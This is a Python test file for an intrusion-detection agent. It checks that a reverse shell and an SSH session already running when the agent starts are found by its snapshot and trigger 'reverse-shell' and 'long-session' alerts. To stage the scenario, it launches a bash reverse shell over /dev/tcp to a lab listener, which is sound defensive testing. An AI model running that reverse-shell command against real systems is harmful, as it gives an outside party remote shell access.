"""What an incident responder meets: the intruder was there before the agent started. A
reverse shell running since before the start is reported from the snapshot (its stdin is a
TCP socket, read from /proc), and a remote session open since before the start counts its
age from its true start: long-session fires at the agent's first tick, while it is open."""
import os
import subprocess
import sys
import time

import hw
from hw import Agent, check, check_eq, get
from sshlab import SshServer, TestUser, kill_tree, ssh_popen

SERVER = "198.18.0.2"
CATCHER = r"""
import socket, sys, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("198.18.0.1", 4446)); s.listen(1); print("ready", flush=True)
c, _ = s.accept(); time.sleep(30)
"""


def alerts(events, rule):
    return [e for e in events if get(e, "event.kind") == "alert" and get(e, "rule.id") == rule]


def test_reverse_shell_and_session_found_by_the_snapshot():
    with hw.Lab() as lab, SshServer(lab.b, SERVER) as srv, TestUser("r") as u:
        u.authorize(srv)
        catcher = lab.a.popen([sys.executable, "-c", CATCHER], stdout=subprocess.PIPE,
                              text=True, start_new_session=True)
        shell = None
        try:
            check_eq(catcher.stdout.readline().strip(), "ready", "catcher")
            # on B: a shell whose stdin and stdout are a TCP connection to A
            shell = lab.b.popen(["bash", "-c", "exec 0<>/dev/tcp/198.18.0.1/4446 1>&0; "
                                 "exec bash -c 'sleep 30'"], start_new_session=True)
            with ssh_popen(lab.a, u, SERVER, "echo up; sleep 30") as s:
                check_eq(s.stdout.readline().strip(), "up", "session up")
                time.sleep(3)
                with Agent("--netns", lab.b.path, "--set", "detect.long_session=2s") as agent:
                    agent.wait_for(lambda e: get(e, "rule.id") == "long-session", timeout=10)
                events = agent.events()
        finally:
            if shell:
                kill_tree(shell.pid, shell)
            kill_tree(catcher.pid, catcher)
            catcher.stdout.close()
    # the snapshot's facts (existing_*) were fed from views and equal their lines (hw.Agent)
    lines = [e for e in events if get(e, "event.kind") != "alert"]
    check(agent.fact_checked and agent.fact_checked >= len(lines),
          "facts checked: %r of %d events" % (agent.fact_checked, len(lines)))
    rev = alerts(events, "reverse-shell")
    check_eq(len(rev), 1, "reverse-shell alerts: %r" % [get(a, "message") for a in rev])
    check_eq(get(rev[0], "process.pid"), shell.pid, "the shell found by the snapshot")
    check("TCP socket" in get(rev[0], "message"), get(rev[0], "message"))
    snap = [e for e in events if get(e, "event.action") == "existing_process"
            and get(e, "process.pid") == shell.pid]
    check_eq(len(snap), 1, "the shell is in the snapshot")
    check_eq(get(snap[0], "hopwatch.stdio")[:2], ["tcp", "tcp"], "its stdio from /proc")
    ls = alerts(events, "long-session")
    check_eq(len(ls), 1, "long-session alerts")
    ex = [e for e in events if get(e, "event.action") == "existing_session"]
    check_eq(len(ex), 1, "the session found by the snapshot")
    check_eq(get(ex[0], "hopwatch.login.verified"), True,
             "a root sshd's login with pam_loginuid, found by the snapshot, is verified")
    check_eq(get(ls[0], "hopwatch.session.id"), get(ex[0], "hopwatch.session.id"), "its id")
    check(get(ls[0], "hopwatch.alert.age") >= 3 * 10**9,
          "age from the true start: %r" % get(ls[0], "hopwatch.alert.age"))
    started = [e for e in events if get(e, "event.action") == "agent-started"][0]
    check(wall(ls[0]) - wall(started) < 0.5,
          "fired at the tick after the snapshot (%s, agent-started %s)"
          % (ls[0]["@timestamp"], started["@timestamp"]))


def wall(e):
    t = e["@timestamp"]
    return time.mktime(time.strptime(t[:19], "%Y-%m-%dT%H:%M:%S")) + float("0." + t[20:29])
